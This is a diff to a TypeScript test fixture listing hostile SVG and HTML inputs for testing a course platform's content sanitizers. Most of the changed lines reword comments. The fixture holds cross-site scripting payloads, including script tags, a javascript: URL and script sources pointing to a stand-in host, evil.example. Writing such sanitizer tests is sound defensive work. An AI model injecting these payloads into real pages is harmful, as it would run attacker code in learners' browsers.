@@ -1,12 +1,12 @@
 /*
- * What somebody might put into a course to run something at a learner's browser, to send word of them to a foreign host,
- * or to break the screen. Used by the tests of the cleaners; long, because it is a list.
+ * Attacks that a course could contain: running code in a browser, sending data to another host, breaking the screen.
+ * For the tests of the cleaners. Long, because it is a list.
  */
 
 const JS = 'javascript:alert(1)'
 const FOREIGN = 'https://evil.example/x'
 
-/** Each stands inside of `<svg viewBox="0 0 24 24">`. */
+/** Each is put inside `<svg viewBox="0 0 24 24">`. */
 const withinSvg = [
   '<script>alert(1)</script>',
   '<script href="https://evil.example/x.js"/>',
@@ -119,7 +119,7 @@ export const hostileSvg: readonly string[] = [
   '',
 ]
 
-/** In Markdown, where HTML may stand as well. */
+/** In Markdown, which can contain HTML. */
 export const hostileHtml: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example></sCrIpT>',
